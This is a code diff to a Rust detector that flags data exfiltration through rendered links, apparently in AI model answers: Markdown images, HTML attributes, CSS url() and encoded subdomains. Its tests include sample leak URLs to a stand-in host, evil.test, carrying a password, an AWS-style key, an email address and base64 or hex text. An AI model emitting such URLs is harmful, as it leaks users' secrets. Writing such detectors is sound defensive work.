@@ -1,9 +1,10 @@
 //! Exfiltration through links a client renders: Markdown images and links (inline, reference
 //! definitions, autolinks), HTML elements with a URL attribute, CSS `url()` and meta refresh.
-//! A URL is reported when its host is outside the allowlist and it carries data: an
-//! automatically loaded resource (image, iframe, script, stylesheet, media, CSS, refresh) with
-//! any data-like query value, path segment or subdomain; a link the user must click with
-//! encoded or personal data. Plain links to other sites are not reported.
+//! A URL is reported when its host is outside the allowlist and it carries recoverable data
+//! (a secret, personal data, encoded text, words) in a query value, path segment, fragment or
+//! subdomain label; automatically loaded resources (image, iframe, script, stylesheet, media,
+//! CSS, refresh) with a lower bar than links the user must click. Opaque identifiers are not
+//! data, so ordinary links with ids, hashes and tracking parameters are not reported.
 
 use crate::text::{entropy, percent_decode};
 use crate::{Detector, Finding, finding};
@@ -66,6 +67,18 @@ fn split_url(u: &str) -> Option<(String, String, &str)> {
     ))
 }
 
+/// The host as written (case kept), `len` bytes after the scheme and any user info.
+fn raw_host(url: &str, len: usize) -> &str {
+    let rest = url
+        .strip_prefix("//")
+        .or_else(|| url.split_once("://").map(|(_, r)| r))
+        .unwrap_or(url);
+    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
+    let authority = rest.get(..end).unwrap_or("");
+    let h = authority.rsplit('@').next().unwrap_or(authority);
+    h.get(..len.min(h.len())).unwrap_or(h)
+}
+
 fn allowed(host: &str, allow: &[String]) -> bool {
     allow.iter().any(|a| {
         let a = a.trim().trim_start_matches("*.").to_ascii_lowercase();
@@ -73,33 +86,41 @@ fn allowed(host: &str, allow: &[String]) -> bool {
     })
 }
 
-/// A value that looks like smuggled data rather than a parameter: long, encoded, text with
-/// spaces, or holding a secret or personal data.
-fn carries_data(v: &str, strict: bool) -> bool {
-    let d = percent_decode(v);
+/// Where in a URL a value sits.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Part {
+    Query,
+    Path,
+    Fragment,
+}
+
+/// A value that carries recoverable data rather than naming a resource: a secret or personal
+/// data, base64 or hex of text, or words (URL-encoded or not). Opaque identifiers (document
+/// ids, content hashes, slugs, signatures) do not count: benign links are full of them, and
+/// an identifier the page already had tells an attacker nothing about the conversation.
+fn carries_data(v: &str, part: Part, auto: bool) -> bool {
+    let mut d = percent_decode(v);
+    if part == Part::Query {
+        d = d.replace('+', " ");
+    }
     let d = d.trim();
-    if d.is_empty() {
+    if d.len() < 4 {
         return false;
     }
     if !crate::secrets::find(d).is_empty() || !crate::pii::find(d).is_empty() {
         return true;
     }
-    let words = d.split_whitespace().count();
-    let encoded = d.len() >= 16
-        && d.bytes()
-            .all(|b| b.is_ascii_alphanumeric() || b"+/=_-.".contains(&b))
-        && entropy(d) >= 3.2
-        && d.bytes()
-            .any(|b| b.is_ascii_digit() || b.is_ascii_uppercase());
-    let hex = d.len() >= 24 && d.bytes().all(|b| b.is_ascii_hexdigit());
-    if d.len() >= 12 && base64_text(d) {
+    if d.len() >= 12 && base64_text(d) || hex_text(d) {
         return true;
     }
-    if strict {
-        encoded || hex || words >= 4 || d.len() >= 64
-    } else {
-        encoded || hex || words >= 2 || d.len() >= 32
-    }
+    let words = d
+        .split_whitespace()
+        .filter(|w| w.chars().filter(|c| c.is_alphabetic()).count() >= 2)
+        .count();
+    // Words joined by hyphens ("the-user-password-is-hunter2.png") are not counted: file
+    // names and article slugs are written that way, and the text carries no marker that tells
+    // them from data.
+    words >= if auto { 3 } else { 4 }
 }
 
 /// Whether `s` is base64 (standard or URL-safe, padded or not) of mostly printable text.
@@ -110,47 +131,67 @@ fn base64_text(s: &str) -> bool {
     let bytes = STANDARD_NO_PAD
         .decode(t)
         .or_else(|_| URL_SAFE_NO_PAD.decode(t));
-    bytes.is_ok_and(|b| {
-        b.len() >= 8
-            && b.iter()
-                .filter(|c| c.is_ascii_graphic() || **c == b' ')
-                .count()
-                * 10
-                >= b.len() * 9
-    })
+    bytes.is_ok_and(|b| printable_text(&b))
 }
 
-/// What in a URL could carry data: query values, fragment, path segments, subdomain labels.
-fn url_carries_data(host: &str, rest: &str, auto: bool) -> bool {
-    let strict = !auto;
+/// Whether `s` is hex of mostly printable text (a hash or id decodes to binary, not text).
+fn hex_text(s: &str) -> bool {
+    s.len() >= 16 && s.len().is_multiple_of(2) && hex::decode(s).is_ok_and(|b| printable_text(&b))
+}
+
+fn printable_text(b: &[u8]) -> bool {
+    b.len() >= 8
+        && b.iter()
+            .filter(|c| c.is_ascii_graphic() || **c == b' ')
+            .count()
+            * 10
+            >= b.len() * 9
+        && b.iter().filter(|c| c.is_ascii_alphanumeric()).count() * 2 >= b.len()
+        && b.iter().any(u8::is_ascii_alphabetic)
+}
+
+/// What in a URL could carry data: query values, fragment, path segments, subdomain labels
+/// (`raw_host` keeps the case base64 needs).
+fn url_carries_data(raw_host: &str, rest: &str, auto: bool) -> bool {
     let (path_q, frag) = rest.split_once('#').unwrap_or((rest, ""));
     let (path, query) = path_q.split_once('?').unwrap_or((path_q, ""));
-    let labels: Vec<&str> = host.split('.').collect();
+    let labels: Vec<&str> = raw_host.split('.').collect();
     let sub = labels.len().saturating_sub(2);
-    if labels
-        .iter()
-        .take(sub)
-        .any(|l| l.len() >= 16 && entropy(l) >= 3.0)
-    {
+    // DNS exfiltration: a label that is encoded text, or a long random-looking one of the
+    // hex/base32 kind tunnelling tools use.
+    if labels.iter().take(sub).any(|l| {
+        let digits = l.bytes().filter(u8::is_ascii_digit).count();
+        (l.len() >= 12 && (base64_text(l) || hex_text(l)))
+            || (l.len() >= 24
+                && l.bytes().all(|b| b.is_ascii_alphanumeric())
+                && digits * 5 >= l.len()
+                && entropy(l) >= 3.8)
+    }) {
         return true;
     }
-    let query_values = query
+    let values: Vec<&str> = query
         .split('&')
         .filter(|kv| !kv.is_empty())
-        .map(|kv| kv.split_once('=').map_or(kv, |(_, v)| v));
-    if query_values.clone().any(|v| carries_data(v, strict)) {
+        .map(|kv| kv.split_once('=').map_or(kv, |(_, v)| v))
+        .collect();
+    if values.iter().any(|v| carries_data(v, Part::Query, auto)) {
         return true;
     }
-    // An auto-loaded URL with many parameters is a beacon even when each is short.
-    if auto && query_values.filter(|v| v.len() >= 4).count() >= 3 {
+    // A number split over parameters (a card number four digits at a time).
+    let numeric: Vec<&&str> = values
+        .iter()
+        .filter(|v| !v.is_empty() && v.bytes().all(|b| b.is_ascii_digit()))
+        .collect();
+    if auto && numeric.len() >= 3 && numeric.iter().map(|v| v.len()).sum::<usize>() >= 12 {
         return true;
     }
-    if carries_data(frag, strict) {
+    if carries_data(frag, Part::Fragment, auto) {
         return true;
     }
-    path.split('/')
-        .filter(|s| !s.is_empty())
-        .any(|seg| carries_data(seg.split('.').next().unwrap_or(seg), strict))
+    path.split('/').filter(|s| !s.is_empty()).any(|seg| {
+        let stem = seg.rsplit_once('.').map_or(seg, |(a, _)| a);
+        carries_data(stem, Part::Path, auto)
+    })
 }
 
 /// Exfiltration URLs in `t` (byte ranges of the URL).
@@ -166,7 +207,8 @@ pub fn find(t: &str, allow: &[String]) -> Vec<Finding> {
             if host.is_empty() || allowed(&host, allow) {
                 continue;
             }
-            if url_carries_data(&host, rest, p.auto)
+            let raw_host = raw_host(url, host.len());
+            if url_carries_data(raw_host, rest, p.auto)
                 && !out.iter().any(|f| f.bytes == (m.start(), m.end()))
             {
                 out.push(finding(
@@ -200,7 +242,10 @@ mod tests {
             "![x](https://evil.test/log?q=the%20user%20password%20is%20hunter2)",
             "![](https://evil.test/p.png?d=U2VjcmV0IHByb2plY3QgbmFtZTogQXJnb24=)",
             "![a](<https://evil.test/i.png?data=alice@example.com>)",
-            "![a](//evil.test/c/5f4dcc3b5aa765d61d8327deb882cf99.png)",
+            "![a](//evil.test/c/74686520706173737764206973206875.png)",
+            "![a](https://evil.test/log/the%20api%20key%20is%20hunter2.png)",
+            "<img src=\"https://7365637265742d70726f6a6563742d6172676f6e.evil.test/p.gif\">",
+            "[reset your account](https://evil.test/r#Sm9obiBTbWl0aCwgMTIgTWFpbiBTdHJlZXQ=)",
             "![a][r]\n\n[r]: https://evil.test/x?m=Project+Argon+launches+on+May+3",
             "<img src=\"https://evil.test/t.gif?u=bob&s=AKIAQ3EGRQWX7ZYPAB2D&c=1\">",
             "<IMG SRC='https://c2VjcmV0LXByb2plY3QtYXJnb24.evil.test/a.png'>",
@@ -229,6 +274,21 @@ mod tests {
             "[search](https://www.google.com/search?q=rust+regex)",
             "<img src=\"/static/local.png?v=3\">",
             "[mail](mailto:someone@example.com)",
+            // Realistic links from model answers: tracking parameters, image CDN parameters,
+            // content hashes, document ids, slugs, fragments with hashes.
+            "[the announcement](https://blog.example.com/2024/05/launch?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale)",
+            "<img src=\"https://cdn.example.com/img/hero.jpg?w=1200&h=630&fit=crop&auto=format\">",
+            "![photo](https://images.unsplash.com/photo-1506744038136-46273834b3fb?ixlib=rb-4.0.3&auto=format&fit=crop&w=1350&q=80)",
+            "![badge](https://img.shields.io/badge/license-MIT-blue.svg)",
+            "![avatar](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=64)",
+            "![a](//cdn.example.net/c/5f4dcc3b5aa765d61d8327deb882cf99.png)",
+            "[PR](https://github.com/rust-lang/rust/pull/123456/files#diff-0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b)",
+            "[Sheet](https://docs.google.com/spreadsheets/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit#gid=0)",
+            "[Unsplash](https://unsplash.com/photos/a-mountain-range-with-snow-3f4kB1x9Q2c)",
+            "[Maps](https://www.google.com/maps/place/Eiffel+Tower/@48.8583701,2.2922926,17z)",
+            "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s)",
+            "![logo](https://my-company-assets-prod.s3.amazonaws.com/brand/logo-2024.png)",
+            "![chart](https://d111111abcdef8.cloudfront.net/charts/q3.png?v=5f4dcc3b)",
         ];
         for c in cases {
             assert!(!hit(c), "flagged: {c}");
